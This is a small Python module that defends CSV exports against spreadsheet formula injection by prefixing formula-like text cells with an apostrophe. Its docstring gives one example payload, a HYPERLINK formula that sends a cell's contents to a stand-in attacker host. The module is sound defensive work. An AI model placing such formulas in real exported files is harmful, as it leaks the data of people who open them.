"""CSV cells that a spreadsheet will not run: OWASP's CSV-injection defence.

Spreadsheet programs evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or carriage return) as a formula, so a dimension value such as
``=HYPERLINK("https://evil.example/?"&A1)`` in an exported file runs when a colleague opens
it. Every CSV Tally writes passes its text cells through ``csv_safe`` first.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """A text cell starting like a formula gets a leading apostrophe (shown as text, not
    run); numbers, dates and other values are unchanged (``-5`` stays a number).

    Example:
        >>> csv_safe('=1+2'), csv_safe('@SUM(A1)'), csv_safe('plain'), csv_safe(-5)
        ("'=1+2", "'@SUM(A1)", 'plain', -5)
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def csv_safe_row(row: Iterable[Any]) -> list[Any]:
    """``csv_safe`` over every cell of a row."""
    return [csv_safe(value) for value in row]
